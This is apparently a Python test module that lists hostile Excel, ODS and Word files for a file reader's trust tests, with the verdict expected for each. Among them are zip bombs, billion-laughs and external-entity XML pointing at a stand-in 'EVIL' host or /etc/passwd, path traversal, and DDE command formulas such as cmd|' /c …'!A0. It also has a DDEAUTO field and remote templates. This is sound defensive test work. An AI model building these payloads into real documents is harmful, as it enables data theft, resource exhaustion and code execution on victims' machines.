"""Hostile files: one table of how each is made, what class of attack it is, and what must become of it.

``REFUSED``: a sentence and exit code 2. ``READ``: its table is read all the same. A code: read,
and that finding says what was wrong. Sizes are small on disk: what hurts is what they unfold to.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.books.biff8 import (
    SMALL,
    Change,
    all_in_the_last_cell,
    beyond_the_last_cell,
    count_of_texts,
    endless_font_name,
    no_such_font,
    no_such_style,
    rewritten,
)
from tests.books.odd import strict, utf16
from tests.books.packages import HEAD, MAIN, STYLES, pack, relations, sheet, workbook
from tests.trust.attacks import (
    BIDI,
    DDE,
    EVIL,
    LINK,
    LONG,
    MACRO,
    ODS_CELL,
    OLE,
    blank_rows,
    book_rels,
    controls,
    deflate_bomb_in_rels,
    doctype,
    encrypted,
    entry_flag,
    formula,
    laughs,
    linked,
    many_sheets,
    misnamed,
    notes,
    ods,
    overlapping,
    related,
    squeezed,
    stored_zip64_size,
    stray,
    unclosed_shapes,
    word,
)
from tests.trust.bases import cell, doubled, nested, patched, rows, table, with_strings
from tests.trust.hostile_odd import ODD

REFUSED, READ = "refused", "read"


def old(change: Change) -> bytes:
    """An .xls with its records changed."""
    return rewritten(SMALL.read_bytes(), change)


@dataclass(frozen=True)
class Case:
    """``kind`` is the class of attack in docs/trust.md."""

    kind: str
    expected: str
    build: Callable[[], bytes]
    ending: str = ".xlsx"


CASES: dict[str, Case] = {
    # zip
    "a zip that unfolds to 90 MB of spaces": Case("压缩炸弹", REFUSED, lambda: squeezed(90_000_000)),
    "a zip that unfolds to 300 MB": Case("压缩炸弹", REFUSED, lambda: squeezed(300_000_000)),
    "a bomb in the relationships": Case("压缩炸弹", REFUSED, deflate_bomb_in_rels),
    "zips in zips": Case("压缩炸弹", REFUSED, lambda: nested(table(), 8)),
    "twenty thousand parts": Case(
        "压缩炸弹", REFUSED, lambda: table(**{f"xl/media/{n}.bin": b"" for n in range(20_000)})
    ),
    "overlapping entries": Case("压缩包", REFUSED, overlapping),
    "a size told too small": Case(
        "压缩包", REFUSED, lambda: patched(table(), "xl/worksheets/sheet1.xml", 24, "<L", 100)
    ),
    "a size told as 2 GB": Case("压缩包", REFUSED, stored_zip64_size),
    "a packed size beyond the file": Case(
        "压缩包", REFUSED, lambda: patched(table(), "xl/worksheets/sheet1.xml", 20, "<L", 0x7FFFFF)
    ),
    "a wrong checksum": Case("压缩包", REFUSED, lambda: patched(table(), "xl/worksheets/sheet1.xml", 16, "<L", 1)),
    "an offset past the end": Case("压缩包", REFUSED, lambda: patched(table(), "xl/workbook.xml", 42, "<L", 0xFFFFFF)),
    "the directory names another part": Case("压缩包", REFUSED, misnamed),
    "packed with a method Excel lacks": Case("压缩包", REFUSED, lambda: pack(workbook(), zipfile.ZIP_LZMA)),
    "a zip password": Case("压缩包", REFUSED, lambda: entry_flag(1)),
    "cut off": Case("压缩包", REFUSED, lambda: table()[:-200]),
    "only a directory": Case("压缩包", REFUSED, lambda: b"PK\5\6" + bytes(18)),
    "a doubled sheet": Case(
        "重复部件", REFUSED, lambda: doubled(table(), "xl/worksheets/sheet1.xml", sheet().encode())
    ),
    "a sheet doubled in capitals": Case(
        "重复部件", REFUSED, lambda: doubled(table(), "XL/worksheets/SHEET1.xml", sheet().encode())
    ),
    "a doubled workbook part": Case("重复部件", REFUSED, lambda: doubled(table(), "xl/workbook.xml", b"<workbook/>")),
    "a path out of the package": Case("路径", REFUSED, lambda: table(**{"../../evil.txt": b"x"})),
    "a path out with backslashes": Case("路径", REFUSED, lambda: table(**{"xl\\..\\..\\evil.txt": b"x"})),
    "a drive letter": Case("路径", REFUSED, lambda: table(**{"C:/evil.txt": b"x"})),
    "a control character in a part's name": Case("路径", REFUSED, lambda: table(**{"xl/a\nb.xml": b"x"})),
    "an absolute path": Case("路径", READ, lambda: table(**{"/etc/evil.txt": b"x"})),
    # xml
    "a billion laughs": Case("实体", REFUSED, lambda: doctype(laughs(12))),
    "an external entity": Case("实体", REFUSED, lambda: doctype(f'<!ENTITY x SYSTEM "http://{EVIL}/x">')),
    "an entity that names a file": Case("实体", REFUSED, lambda: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    "a parameter entity": Case("实体", REFUSED, lambda: doctype(f'<!ENTITY % p SYSTEM "http://{EVIL}/d"> %p;')),
    "laughs in the shared strings": Case(
        "实体",
        REFUSED,
        lambda: table(
            book_rels=book_rels(("sharedStrings", "sharedStrings.xml")),
            **{"xl/sharedStrings.xml": f"<!DOCTYPE s [{laughs(12)}]><sst><si><t>&a11;</t></si></sst>"},
        ),
    ),
    "laughs in UTF-16": Case(
        "实体",
        REFUSED,
        lambda: table(sheet=utf16(sheet(rows()).replace("<worksheet", f"<!DOCTYPE w [{laughs(12)}]><worksheet", 1))),
    ),
    "a million levels": Case("过深", REFUSED, lambda: table(after="<a>" * 1_000_000 + "</a>" * 1_000_000)),
    "three hundred thousand levels in the styles": Case(
        "过深",
        REFUSED,
        lambda: table(styles=STYLES.replace("</styleSheet>", "<a>" * 300_000 + "</a>" * 300_000 + "</styleSheet>")),
    ),
    "ten million elements": Case("过多", REFUSED, lambda: table(after="<a/>" * 10_000_000)),
    "a million styles": Case(
        "过多", READ, lambda: table(styles=STYLES.replace("</styleSheet>", "<x/>" * 1_000_000 + "</styleSheet>"))
    ),
    "a million attributes": Case(
        "过多", REFUSED, lambda: table(after="<a " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/>")
    ),
    "XML that breaks off": Case("坏部件", REFUSED, lambda: table(sheet=sheet(rows())[:-400])),
    "bytes that are no UTF-8": Case(
        "坏部件", REFUSED, lambda: table(sheet=sheet(rows()).encode().replace("遂昌".encode(), b"\xff\xfe\xff"))
    ),
    "an encoding that does not exist": Case(
        "坏部件", REFUSED, lambda: table(sheet=sheet(rows()).replace("UTF-8", "EVIL-16"))
    ),
    "half a character pair": Case(
        "坏部件", REFUSED, lambda: table(sheet=sheet(rows()).encode().replace("遂昌".encode(), b"\xed\xa0\x80"))
    ),
    "half a pair as a reference": Case(
        "坏部件", REFUSED, lambda: table({"G2": cell("G2", "X").replace("X", "&#xD800;")})
    ),
    "a control character as a reference": Case(
        "坏部件", REFUSED, lambda: table({"G2": cell("G2", "X").replace("X", "&#1;")})
    ),
    "an element for nothing": Case("坏部件", READ, lambda: table(before="<x:y xmlns:x='urn:x'/>")),
    # cells
    "a cell at P1048576": Case("远处单元格", "S118", lambda: stray("P1048576")),
    "a cell at XFD1048576": Case("远处单元格", "S118", lambda: stray("XFD1048576")),
    "a text at XFD1048576": Case("远处单元格", "S118", lambda: stray("XFD1048576", "<is><t/></is>", ' t="inlineStr"')),
    "a cell at xfd1048576 in small letters": Case("远处单元格", "S118", lambda: stray("xfd1048576")),
    "a cell beyond Excel's grid": Case("远处单元格", "S118", lambda: stray("AA99999999")),
    "a cell hidden behind a quotation": Case(
        "远处单元格",
        "S118",
        lambda: table(more="<row r='9' x='&lt;c y='><c r='XFD1048576'><v>1</v></c></row>"),
    ),
    "a cell hidden behind a comment": Case(
        "远处单元格", "S118", lambda: table(more='<!-- <c x=" --><row r="9"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "a stray row number": Case("远处单元格", "S118", lambda: table(more='<row r="1048576"><c><v>1</v></c></row>')),
    "a hundred thousand blank rows": Case("空白格式", READ, lambda: blank_rows(150_000)),
    "a dimension that lies": Case("空白格式", READ, lambda: table(before='<dimension ref="A1:XFD1048576"/>')),
    "a cell at B0": Case("坏单元格", REFUSED, lambda: stray("B0")),
    "a cell address of letters": Case(
        "坏单元格", REFUSED, lambda: table(more='<row r="9"><c r="ABCDE"><v>1</v></c></row>')
    ),
    "a row number of words": Case("坏单元格", REFUSED, lambda: table(more='<row r="九"><c><v>1</v></c></row>')),
    "a shared string that is not there": Case("坏单元格", "either", lambda: stray("A9", "<v>99999</v>", ' t="s"')),
    "a merged range over everything": Case(
        "合并", READ, lambda: table(after='<mergeCells><mergeCell ref="A20:XFD1048576"/></mergeCells>')
    ),
    "a hundred thousand merged ranges": Case(
        "合并", REFUSED, lambda: table(after="<mergeCells>" + '<mergeCell ref="J1:XA70"/>' * 90_000 + "</mergeCells>")
    ),
    "two thousand sheets of one part": Case("过多", REFUSED, lambda: many_sheets(2000)),
    "two hundred sheets of one part": Case("过多", READ, lambda: many_sheets(200)),
    "a hundred billion shared strings told": Case(
        "过多",
        REFUSED,
        lambda: with_strings("<si><t>x</t></si>", "", told="99999999999"),
    ),
    "a hundred billion formats told": Case(
        "过多", REFUSED, lambda: table(styles=STYLES.replace('<cellXfs count="1"', '<cellXfs count="99999999999"'))
    ),
    # text
    "a cell of 50,000 characters": Case("超长文字", REFUSED, lambda: table({"G2": LONG})),
    "a shared string of 9 MB, a thousand times": Case(
        "超长文字",
        REFUSED,
        lambda: with_strings(
            f"<si><t>{'x' * 9_000_000}</t></si>",
            "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(9, 1009)),
        ),
    ),
    "a long string, fifty thousand times": Case(
        "超长文字",
        REFUSED,
        lambda: with_strings(
            f"<si><t>{'x' * 30_000}</t></si>",
            "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(9, 50_009)),
        ),
    ),
    "bidirectional overrides": Case("隐藏字符", READ, lambda: table({"H2": BIDI, "G2": f"1.\u202e{BIDI}"})),
    "zero width and control codes": Case(
        "隐藏字符", READ, lambda: table({"G2": "1.\u200b已\ufeff_x0007_建立_x001B_[31m"})
    ),
    "a note of hostile text": Case(
        "隐藏字符", READ, lambda: table({"H3": "☑已完成☑未达序时进度", "C3": f"\u202e{EVIL}"})
    ),
    # formulas and what may be run
    "a formula that links": Case(
        "公式", "either", lambda: table(formula("G2", f'HYPERLINK("http://{EVIL}","详情")', "1"))
    ),
    "a formula that asks the web": Case("公式", "either", lambda: table(formula("G2", f'WEBSERVICE("http://{EVIL}")'))),
    "a formula that calls a command": Case("公式", "either", lambda: table(formula("G2", f"cmd|' /c {EVIL}'!A0"))),
    "text that begins like a formula": Case(
        "公式",
        READ,
        lambda: table(
            {"G2": f'=HYPERLINK("http://{EVIL}")', "F2": f"+cmd|'/c {EVIL}'!A0", "C2": f"@{EVIL}", "E2": f"-1+{EVIL}"}
        ),
    ),
    "a region that begins like a formula": Case("公式", READ, lambda: table({"A2": f"=1+{EVIL}", "A3": f"=1+{EVIL}"})),
    "a sheet named like a formula": Case(
        "公式", READ, lambda: table(book=str(workbook()["xl/workbook.xml"]).replace("数据", f"=1+'{EVIL}'!"))
    ),
    "an address in a cell": Case(
        "公式", READ, lambda: table({"G2": f"http://{EVIL}/a", "F2": f"mailto:a@{EVIL}", "E2": f"external:{EVIL}"})
    ),
    "a macro sheet": Case("宏", READ, lambda: MACRO, ".xlsm"),
    "a name that runs when opened": Case(
        "宏",
        READ,
        lambda: table(
            book=str(workbook()["xl/workbook.xml"]).replace(
                "</workbook>",
                '<definedNames><definedName name="Auto_Open">数据!$A$1</definedName></definedNames></workbook>',
            )
        ),
        ".xlsm",
    ),
    "DDE": Case("外部链接", READ, lambda: linked(DDE)),
    "a linked workbook": Case("外部链接", READ, lambda: linked(LINK)),
    "a web query": Case(
        "外部链接",
        READ,
        lambda: table(
            book_rels=book_rels(("connections", "connections.xml")),
            **{
                "xl/connections.xml": f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" name="a" type="4" '
                f'refreshOnLoad="1"><webPr url="http://{EVIL}"/></connection></connections>'
            },
        ),
    ),
    "a picture on the web": Case("外部链接", READ, lambda: related("image", f"http://{EVIL}/a.png")),
    "a link to a share": Case("外部链接", READ, lambda: related("hyperlink", f"file://{EVIL}/share")),
    "an OLE object": Case(
        "OLE",
        READ,
        lambda: OLE,
    ),
    # relationships
    "a sheet outside the package": Case(
        "坏关系", REFUSED, lambda: table(book_rels=relations(("worksheet", "../../../etc/passwd")))
    ),
    "a sheet on the web": Case(
        "坏关系", REFUSED, lambda: table(book_rels=book_rels().replace("worksheets/sheet1.xml", f"http://{EVIL}/s.xml"))
    ),
    "no relationships": Case("坏关系", REFUSED, lambda: table(book_rels=None)),
    "relationships without end": Case(
        "坏关系",
        "either",
        lambda: table(book_rels=book_rels(*[("worksheet", f"worksheets/s{n}.xml") for n in range(30_000)])),
    ),
    "relationships in a circle": Case(
        "坏关系",
        READ,
        lambda: table(
            **{
                "xl/worksheets/_rels/sheet1.xml.rels": relations(
                    ("comments", "sheet1.xml"), ("vmlDrawing", "sheet1.xml")
                )
            }
        ),
    ),
    "two sheets of one name": Case(
        "坏关系",
        REFUSED,
        lambda: table(
            book=str(workbook()["xl/workbook.xml"]).replace(
                "</sheets>", '<sheet name="数据" sheetId="2" r:id="rId1"/></sheets>'
            )
        ),
    ),
    # drawings and notes
    "twenty thousand tick boxes": Case("控件批注", "either", lambda: controls(20_000)),
    "shapes that never close": Case("控件批注", READ, unclosed_shapes),
    "a hundred thousand notes": Case("控件批注", READ, lambda: notes(100_000)),
    # other formats
    "an encrypted file": Case("其他格式", REFUSED, encrypted),
    "a web page": Case("其他格式", REFUSED, lambda: b"<html><script>1</script></html>", ".xls"),
    "a program": Case("其他格式", REFUSED, lambda: b"MZ" + bytes(5000)),
    "an .ods that repeats a cell": Case(
        "其他格式",
        "either",
        lambda: ods(
            '<table:table-row table:number-rows-repeated="1000000">'
            + ODS_CELL.format('table:number-columns-repeated="1000" ')
            + "</table:table-row>"
        ),
        ".ods",
    ),
    "an .ods with laughs": Case(
        "其他格式",
        "either",
        lambda: pack({"mimetype": "x", "content.xml": f"<!DOCTYPE a [{laughs(12)}]><a>&a11;</a>"}),
        ".ods",
    ),
    "an .xls of noise": Case(
        "其他格式", REFUSED, lambda: bytes.fromhex("D0CF11E0A1B11AE1") + "Workbook".encode("utf-16-le") * 3000, ".xls"
    ),
    "an .xls that is cut short": Case("其他格式", "either", lambda: SMALL.read_bytes()[:4000], ".xls"),
    "an .xls with a wrong count of texts": Case("其他格式", "S150", lambda: old(count_of_texts), ".xls"),
    "an .xls with fonts that are not there": Case("其他格式", READ, lambda: old(no_such_font), ".xls"),
    "an .xls with styles that are not there": Case("其他格式", "either", lambda: old(no_such_style), ".xls"),
    "an .xls with a font whose name never ends": Case("其他格式", "either", lambda: old(endless_font_name), ".xls"),
    "an .xls with all in its last cell": Case("其他格式", REFUSED, lambda: old(all_in_the_last_cell), ".xls"),
    "an .xls with all beyond its last cell": Case("其他格式", REFUSED, lambda: old(beyond_the_last_cell), ".xls"),
    "Strict with a stray cell": Case(
        "其他格式",
        "S118",
        lambda: pack(strict(workbook(sheet=sheet(rows(more='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))))),
    ),
    "a UTF-16 sheet with a stray cell": Case(
        "其他格式",
        "S118",
        lambda: table(sheet=utf16(sheet(rows(more='<row r="1048576"><c r="P1048576"><v>1</v></c></row>')))),
    ),
}

CASES |= {name: Case(kind, expected, build, ending) for name, (kind, expected, build, ending) in ODD.items()}

WORD: dict[str, Case] = {
    "Word with laughs": Case(
        "Word", REFUSED, lambda: word("", **{"word/document.xml": f"<!DOCTYPE a [{laughs(12)}]><a>&a11;</a>"}), ".docx"
    ),
    "Word that unfolds to 90 MB": Case("Word", REFUSED, lambda: word(" " * 90_000_000), ".docx"),
    "Word a million levels deep": Case("Word", REFUSED, lambda: word("<w:p>" * 400_000 + "</w:p>" * 400_000), ".docx"),
    "Word with a path out": Case("Word", REFUSED, lambda: word("", **{"../evil": "x"}), ".docx"),
    "Word with a field that runs": Case(
        "Word", REFUSED, lambda: word(f"<w:p><w:r><w:instrText>DDEAUTO cmd {EVIL}</w:instrText></w:r></w:p>"), ".docx"
    ),
    "Word with a template on the web": Case(
        "Word",
        REFUSED,
        lambda: word(
            "<w:p/>",
            **{
                "word/_rels/document.xml.rels": relations(("attachedTemplate", f"http://{EVIL}/t.dotm")).replace(
                    "/>", ' TargetMode="External"/>'
                )
            },
        ),
        ".docx",
    ),
}
